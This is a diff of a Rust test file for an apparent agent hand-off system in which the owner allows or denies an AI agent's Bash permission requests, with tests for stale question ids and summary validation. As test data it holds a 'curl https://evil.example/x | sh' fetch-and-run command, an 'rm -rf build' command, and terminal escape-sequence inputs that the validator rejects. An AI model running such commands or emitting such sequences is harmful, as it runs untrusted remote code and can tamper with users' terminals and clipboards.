@@ -28,6 +28,19 @@ fn at_turn_two() -> Record {
 }
 
 #[test]
+fn a_summary_follows_the_multi_line_rule_and_may_be_empty() {
+    assert!(check_summary("").is_ok());
+    assert!(check_summary("done:\n\tall tests pass").is_ok());
+    assert!(check_summary(&"x".repeat(SUMMARY_BYTES_MAX)).is_ok());
+    assert!(check_summary(&"x".repeat(SUMMARY_BYTES_MAX + 1)).unwrap_err().message.starts_with("summary: longer"));
+    for bad in ["\u{1b}]52;c;eA==\u{7}", "erase\u{1b}[2K", "back\r", "\u{9d}0;title\u{9c}"] {
+        let e = check_summary(bad).unwrap_err();
+        assert_eq!(e.code, Code::RequestInvalid);
+        assert!(e.message.starts_with("summary: control characters"), "{bad:?}: {}", e.message);
+    }
+}
+
+#[test]
 fn a_new_hand_off_starts_at_turn_one_open_running_version_one() {
     let r = fresh();
     assert_eq!((r.turn, r.state, r.status, r.version, r.summary.clone()), (1, State::Open, Status::Running, 1, None));
@@ -179,7 +192,7 @@ fn any_command() -> impl Strategy<Value = Command> {
         proptest::option::of(0u64..6).prop_map(|turn| Command::Cancel { turn }),
         Just(Command::Close),
         (0u64..6, prop_oneof![Just("Bash: ls"), Just("Bash: rm")]).prop_map(|(turn, text)| ask(turn, text)),
-        (2u64..12, prop_oneof![Just("allow"), Just("deny")]).prop_map(|(v, option)| answer(&format!("q_{v}"), option, None)),
+        (2u64..12, prop_oneof![Just("allow"), Just("deny")]).prop_map(|(v, option)| answer(&format!("q_{v}_1000"), option, None)),
     ]
 }
 
@@ -291,11 +304,24 @@ fn a_needs_you_report_with_a_question_puts_it_on_the_record_unanswered() {
     let r = asking();
     let q = r.question.clone().expect("a question");
     assert_eq!((r.status, r.version), (Status::NeedsYou, 2));
-    assert_eq!((q.id.as_str(), q.turn, q.kind, q.text.as_str(), q.options.len()), ("q_2", 1, Kind::Permission, "Bash: ls", 2));
+    assert_eq!((q.id.as_str(), q.turn, q.kind, q.text.as_str(), q.options.len()), ("q_2_1000", 1, Kind::Permission, "Bash: ls", 2));
     assert_eq!((q.asked_at, q.answer), (Timestamp::from_ms(2_000), None));
     let again = ok(&r, ask(1, "Bash: ls"));
     assert!(!again.moved, "the same report with the same question again is a repeat");
-    assert_eq!(again.next.question.map(|q| q.id), Some("q_2".into()));
+    assert_eq!(again.next.question.map(|q| q.id), Some("q_2_1000".into()));
+}
+
+#[test]
+fn a_question_id_from_an_earlier_life_never_answers_the_same_version_of_a_later_life() {
+    // Erased and created again: versions start at 1 again, the life is later.
+    let earlier = asking();
+    let later_life = Record::create("ho_1".into(), "alice".into(), "s1".into(), "m1".into(), "large".into(), 9_000);
+    let later = ok(&later_life, ask(1, "Bash: curl https://evil.example/x | sh")).next;
+    let (old_id, new_id) = (earlier.question.unwrap().id, later.question.clone().unwrap().id);
+    assert_eq!(later.version, 2, "the same version as the earlier life's question");
+    assert_eq!((old_id.as_str(), new_id.as_str()), ("q_2_1000", "q_2_9000"));
+    assert_eq!(apply(&later, &answer(&old_id, "allow", None), 10_000), Err(Code::QuestionStale));
+    assert!(ok(&later, answer(&new_id, "allow", None)).moved);
 }
 
 #[test]
@@ -306,7 +332,7 @@ fn a_later_report_a_new_question_a_cancel_or_a_close_withdraws_the_question() {
         assert_eq!(next.question, None, "a {status:?} report withdraws it");
     }
     let newer = ok(&r, ask(1, "Bash: rm -rf build")).next;
-    assert_eq!(newer.question.as_ref().map(|q| (q.id.as_str(), q.text.as_str())), Some(("q_3", "Bash: rm -rf build")));
+    assert_eq!(newer.question.as_ref().map(|q| (q.id.as_str(), q.text.as_str())), Some(("q_3_1000", "Bash: rm -rf build")));
     assert_eq!(ok(&r, Command::Cancel { turn: None }).next.question, None);
     assert_eq!(ok(&r, Command::Close).next.question, None);
 }
@@ -318,7 +344,7 @@ fn a_needs_you_without_a_question_leaves_the_open_question_answerable() {
     let reminded = ok(&r, report(1, ReportStatus::NeedsYou, Some("Claude needs your permission to use Bash")));
     assert!(!reminded.moved, "the turn still waits on the question: nothing moves");
     assert_eq!(reminded.next, r);
-    let answered = ok(&reminded.next, answer("q_2", "allow", None));
+    let answered = ok(&reminded.next, answer("q_2_1000", "allow", None));
     assert!(answered.moved, "the owner's answer still counts");
     // Once answered (the turn runs again), a needs-you is a new wait and the answered question goes.
     let again = ok(&answered.next, report(1, ReportStatus::NeedsYou, Some("idle")));
@@ -329,42 +355,42 @@ fn a_needs_you_without_a_question_leaves_the_open_question_answerable() {
 #[test]
 fn the_owners_answer_is_recorded_once_and_the_turn_runs_again() {
     let r = asking();
-    let answered = ok(&r, answer("q_2", "deny", Some("not on main")));
+    let answered = ok(&r, answer("q_2_1000", "deny", Some("not on main")));
     assert!(answered.moved);
     let next = answered.next;
     let given = next.question.as_ref().and_then(|q| q.answer.clone()).expect("answered");
     assert_eq!((given.option.as_str(), given.note.as_deref(), given.answered_at), ("deny", Some("not on main"), Timestamp::from_ms(2_000)));
     assert_eq!((next.status, next.version), (Status::Running, 3));
     // The exact same answer again (from this device or another): accepted, nothing moves.
-    let again = apply(&next, &answer("q_2", "deny", Some("not on main")), 3_000).unwrap();
+    let again = apply(&next, &answer("q_2_1000", "deny", Some("not on main")), 3_000).unwrap();
     assert!(!again.moved);
     assert_eq!(again.next, next);
-    assert!(!apply(&next, &answer("q_2", "deny", None), 3_000).unwrap().moved, "the same option with another note is the same answer");
+    assert!(!apply(&next, &answer("q_2_1000", "deny", None), 3_000).unwrap().moved, "the same option with another note is the same answer");
 }
 
 #[test]
 fn two_owners_answering_at_once_one_wins_and_the_other_gets_the_same_answer_or_question_answered() {
     let r = asking();
     for (first, second) in [("allow", "deny"), ("deny", "allow")] {
-        let won = ok(&r, answer("q_2", first, None)).next;
-        assert_eq!(apply(&won, &answer("q_2", second, None), 3_000), Err(Code::QuestionAnswered));
-        assert!(!ok(&won, answer("q_2", first, None)).moved);
+        let won = ok(&r, answer("q_2_1000", first, None)).next;
+        assert_eq!(apply(&won, &answer("q_2_1000", second, None), 3_000), Err(Code::QuestionAnswered));
+        assert!(!ok(&won, answer("q_2_1000", first, None)).moved);
     }
 }
 
 #[test]
 fn an_answer_with_no_question_to_another_question_or_with_an_option_not_offered_is_refused() {
-    assert_eq!(apply(&fresh(), &answer("q_2", "allow", None), 3_000), Err(Code::QuestionNone));
+    assert_eq!(apply(&fresh(), &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionNone));
     let r = asking();
-    assert_eq!(apply(&r, &answer("q_9", "allow", None), 3_000), Err(Code::QuestionStale));
-    assert_eq!(apply(&r, &answer("q_2", "maybe", None), 3_000), Err(Code::RequestInvalid));
+    assert_eq!(apply(&r, &answer("q_9_1000", "allow", None), 3_000), Err(Code::QuestionStale));
+    assert_eq!(apply(&r, &answer("q_2_1000", "maybe", None), 3_000), Err(Code::RequestInvalid));
     // Withdrawn by a new question: the old id is stale; by a report: no question is open.
     let newer = ok(&r, ask(1, "Bash: rm -rf build")).next;
-    assert_eq!(apply(&newer, &answer("q_2", "allow", None), 3_000), Err(Code::QuestionStale));
+    assert_eq!(apply(&newer, &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionStale));
     let withdrawn = ok(&r, report(1, ReportStatus::Running, None)).next;
-    assert_eq!(apply(&withdrawn, &answer("q_2", "allow", None), 3_000), Err(Code::QuestionNone));
+    assert_eq!(apply(&withdrawn, &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionNone));
     let closed = ok(&r, Command::Close).next;
-    assert_eq!(apply(&closed, &answer("q_2", "allow", None), 3_000), Err(Code::HandoffClosed));
+    assert_eq!(apply(&closed, &answer("q_2_1000", "allow", None), 3_000), Err(Code::HandoffClosed));
 }
 
 #[test]
@@ -372,7 +398,7 @@ fn a_question_does_not_outlive_its_turn() {
     let r = ok(&asking(), report(1, ReportStatus::Done, None)).next;
     let r = ok(&r, Command::OpenTurn { after: 1, prompt: None }).next;
     assert_eq!((r.turn, r.question.clone()), (2, None));
-    assert_eq!(apply(&r, &answer("q_2", "allow", None), 3_000), Err(Code::QuestionNone));
+    assert_eq!(apply(&r, &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionNone));
 }
 
 #[test]
